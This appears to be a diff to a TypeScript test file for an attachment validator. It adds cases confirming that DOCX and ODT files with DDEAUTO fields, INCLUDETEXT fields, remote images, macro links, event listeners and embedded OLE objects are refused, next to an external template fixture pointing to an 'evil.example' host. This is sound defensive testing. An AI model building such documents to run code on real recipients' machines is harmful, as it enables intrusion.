@@ -17,6 +17,20 @@ const outside =
   '<Relationship Id="x" TargetMode="External" Target="https://evil.example/t.dotm" ' +
   'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>' +
   "</Relationships>";
+const inside = outside
+  .replace('TargetMode="External" Target="https://evil.example/t.dotm"', 'Target="x.bin"')
+  .replace("attachedTemplate", "oleObject");
+const field = (code: string) =>
+  Buffer.from(docx({ body: `<w:p><w:r><w:instrText>${code}</w:instrText></w:r></w:p>` }));
+const header =
+  '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p>' +
+  "<w:fldSimple w:instr='LINK Excel.Sheet \"x\" '/></w:p></w:hdr>";
+const open = (inner: string) => Buffer.from(odt({ body: p("x", inner) }));
+const ear =
+  '<script:event-listener xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"/>';
+const image = (href: string) => `<draw:frame><draw:image xlink:href="${href}"/></draw:frame>`;
+const link = (href: string) => `<text:a xlink:href="${href}">x</text:a>`;
+const packed = (parts: Record<string, string>) => Buffer.from(odt({ body: p("x"), parts }));
 
 describe("an attachment", () => {
   it("is what its content says, and gets the ending of that", async () => {
@@ -45,6 +59,17 @@ describe("an attachment", () => {
     ["a torn picture", "a.png", Buffer.from(png()).subarray(0, 40), "image_unreadable"],
     ["macros", "a.docx", word({ "word/vbaProject.bin": "x" }), "macros"],
     ["outside", "a.docx", word({ "word/_rels/settings.xml.rels": outside }), "active_content"],
+    ["a field that starts a program", "a.docx", field(" DDEAUTO c:\\\\x "), "active_content"],
+    ["a field that fetches a file", "a.docx", field(' INCLUDETEXT "x" '), "active_content"],
+    ["a field in a header", "a.docx", word({ "word/header1.xml": header }), "active_content"],
+    ["an ODT that listens", "a.odt", open(ear), "macros"],
+    ["an ODT from elsewhere", "a.odt", open(image("https://a.example")), "active_content"],
+    ["an ODT that asks a program", "a.odt", open("<text:dde-connection-decl/>"), "active_content"],
+    ["a link to a macro", "a.odt", open(link("vnd.sun.star.script:a")), "active_content"],
+    ["a package", "a.docx", word({ "word/embeddings/oleObject1.bin": "MZ" }), "embedded_file"],
+    ["a renamed package", "a.docx", word({ "word/_rels/x.xml.rels": inside }), "embedded_file"],
+    ["an object of ODT", "a.odt", packed({ "Object 1/content.xml": "<a/>" }), "embedded_file"],
+    ["an object in a frame", "a.odt", open('<draw:object-ole xlink:href="./x"/>'), "embedded_file"],
   ])("that is %s is refused", async (_, name, bytes, code) => {
     await expect(knownAttachment(name, bytes)).rejects.toMatchObject({
       ...{ kind: "invalid", code: `templates.${code}` },
